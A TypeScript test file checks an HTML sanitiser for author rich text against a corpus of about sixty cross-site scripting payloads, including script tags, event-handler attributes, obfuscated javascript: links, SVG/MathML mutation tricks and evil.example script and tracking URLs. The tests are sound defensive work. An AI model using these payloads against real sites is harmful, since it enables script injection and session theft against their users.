import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { richTextOf, sanitiseInlineText, sanitiseRichText } from './rich-text.ts';

/** Whether a browser could run anything of it: no tag, attribute or address outside the list is left. */
const ALLOWED =
  /^(?:[^<>]|<\/?(?:p|strong|em|u|s|sub|sup|code|pre|blockquote|h3|h4|ul|ol|li|a|table|thead|tbody|tr|th|td|figure|figcaption|details|summary|video|audio)>|<br \/>|<a href="https:\/\/[^"]*" rel="noopener noreferrer nofollow">|<img src="\/files\/[\w/-]+\.(?:png|jpg|webp)"(?: alt="[^"]*")? \/>|<t[hd](?: (?:col|row)span="[^"]*")*>|<(?:video|audio) src="\/files\/uploads\/[0-9a-f]{24}\.(?:mp4|webm|mp3)"(?: aria-label="[^"]*")? controls="controls" preload="metadata">)*$/i;

const UPLOAD = `/files/uploads/${'a1'.repeat(12)}`;

const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onerror="alert(1)">',
  '<img src="/files/../../a.png">',
  '<img src="//evil.example/a.png">',
  '<img src="https://evil.example/track.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="/files/a.svg">',
  '<img srcset="https://evil.example 1x" src="/files/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/login">x</a>',
  '<a href="https://fine.example" onclick="alert(1)" target="_blank" style="position:fixed">x</a>',
  '<a href="https://fine.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=\'https://fine.example/" onmouseover="alert(1)\'>x</a>',
  '<iframe src="https://www.youtube.com/embed/x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<style>@import "https://evil.example"</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<p onclick=alert(1)>x</p>',
  '<p id=app class=hero data-x=1>x</p>',
  '<video><source onerror=alert(1)></video>',
  '<video src="https://evil.example/track.mp4" autoplay></video>',
  '<video src="//evil.example/files/uploads/a1a1a1a1a1a1a1a1a1a1a1a1.mp4"></video>',
  `<video src="${UPLOAD}.mp4" poster="https://evil.example/x.png" autoplay onplay=alert(1)></video>`,
  `<audio src="${UPLOAD}.mp3" onloadedmetadata=alert(1) style="position:fixed"><script>alert(1)</script></audio>`,
  '<audio src="javascript:alert(1)"></audio>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<b',
  '<p<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<custom-element onfoo=1>x</custom-element>',
  '<p>a</p><p',
  '\u0001<script\u0000>alert(1)</script>',
];

describe('rich text of an author', () => {
  it.each(CORPUS)('runs nothing of %j (30)', (html) => {
    expect(sanitiseRichText(html)).toMatch(ALLOWED);
  });
  it('runs nothing, however the pieces are put together (30)', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...CORPUS), fc.string()), { maxLength: 6 }), (pieces) => {
        expect(sanitiseRichText(pieces.join(''))).toMatch(ALLOWED);
      }),
    );
  });
  it('is the same when it is sanitised twice', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...CORPUS), fc.string()), { maxLength: 4 }), (pieces) => {
        const once = sanitiseRichText(pieces.join(''));
        expect(sanitiseRichText(once)).toBe(once);
      }),
    );
  });
  it('keeps what authors use', () => {
    const html =
      '<h3>Cash</h3><p>A <strong>b</strong> <em>c</em> <u>d</u> <s>e</s> H<sub>2</sub> x<sup>2</sup> <code>f</code><br />g</p><ul><li>h</li></ul><ol><li>i</li></ol><blockquote><p>j</p></blockquote><pre>k</pre><p><a href="https://fine.example/a?b=c" rel="noopener noreferrer nofollow">l</a><img src="/files/images/a.png" alt="m" /></p><table><tbody><tr><th colspan="2">n</th></tr><tr><td>o</td><td>p</td></tr></tbody></table>';
    expect(sanitiseRichText(html)).toBe(html);
  });
  it('plays recordings that were uploaded, with their titles and transcripts, and only when a reader wants them', () => {
    const html = `<figure><video src="${UPLOAD}.mp4" aria-label="A &quot;talk&quot;" controls="controls" preload="metadata"></video><figcaption>A "talk"</figcaption><details><summary>Transcript</summary><p>Hello.</p></details></figure>`;
    expect(sanitiseRichText(html)).toBe(html);
    expect(sanitiseRichText(`<audio src="${UPLOAD}.mp3" autoplay loop preload="auto"></audio>`)).toBe(
      `<audio src="${UPLOAD}.mp3" controls="controls" preload="metadata"></audio>`,
    );
  });
  it.each([
    `<video src="${UPLOAD}.mp3"></video>`,
    `<audio src="${UPLOAD}.mp4"></audio>`,
    `<video src="${UPLOAD}.pdf"></video>`,
    '<video src="/files/private/a.mp4"></video>',
    `<video src="https://example.com${UPLOAD}.mp4"></video>`,
    `<video><source src="${UPLOAD}.mp4"></video>`,
  ])('plays nothing else: %s', (html) => {
    expect(sanitiseRichText(html)).toBe('');
  });
  it('is nested twenty deep at the most', () => {
    const depthOf = (html: string): number => html.split('<blockquote>').length - 1;
    expect(depthOf(sanitiseRichText('<blockquote>'.repeat(20) + 'x'))).toBe(20);
    expect(depthOf(sanitiseRichText('<blockquote>'.repeat(200) + 'x'))).toBe(20);
  });
  it('is done in time, however it is nested', () => {
    const before = process.threadCpuUsage();
    sanitiseRichText('<p>'.repeat(16_000) + '<a href="'.repeat(200));
    expect(process.threadCpuUsage(before).user / 1000).toBeLessThan(500);
  });
});

describe('inline rich text', () => {
  const INLINE =
    /^(?:[^<>]|<\/?(?:strong|em|u|s|sub|sup|code)>|<img src="\/files\/[\w/-]+\.(?:png|jpg|webp)"(?: alt="[^"]*")? \/>)*$/i;
  const mixed = fc.array(fc.oneof(fc.constantFrom(...CORPUS), fc.string()), { maxLength: 6 });

  it('runs nothing, however the pieces are put together', () => {
    fc.assert(
      fc.property(mixed, (pieces) => {
        expect(sanitiseInlineText(pieces.join(''))).toMatch(INLINE);
      }),
    );
  });
  it('is the same when it is sanitised twice', () => {
    fc.assert(
      fc.property(mixed, (pieces) => {
        const once = sanitiseInlineText(pieces.join(''));
        expect(sanitiseInlineText(once)).toBe(once);
      }),
    );
  });
  it('keeps marks and pictures', () => {
    const html =
      'A <strong>b</strong> <em>c</em> <u>d</u> <s>e</s> H<sub>2</sub> x<sup>2</sup> <code>f</code> <img src="/files/a.png" alt="g" />';
    expect(sanitiseInlineText(html)).toBe(html);
  });
  it('has one line, without links and empty marks', () => {
    expect(sanitiseInlineText('<p>One</p>\n<p>two<br>three</p><ul><li>four</li></ul>')).toBe('One two three four');
    expect(sanitiseInlineText('<a href="https://fine.example">Five</a><b></b><em> </em>')).toBe('Five');
    expect(
      sanitiseInlineText(
        `<figure><audio src="${UPLOAD}.mp3"></audio><figcaption>Six</figcaption></figure><p>seven</p>`,
      ),
    ).toBe('Six seven');
  });
});

describe('plain text as rich text', () => {
  it('shows every letter as it is', () => {
    expect(richTextOf('a < b & "c" > d')).toBe('<p>a &lt; b &amp; &quot;c&quot; &gt; d</p>');
  });
  it('keeps paragraphs and breaks', () => {
    expect(richTextOf('One.\nTwo.\n\nThree.')).toBe('<p>One.<br />Two.</p><p>Three.</p>');
  });
});
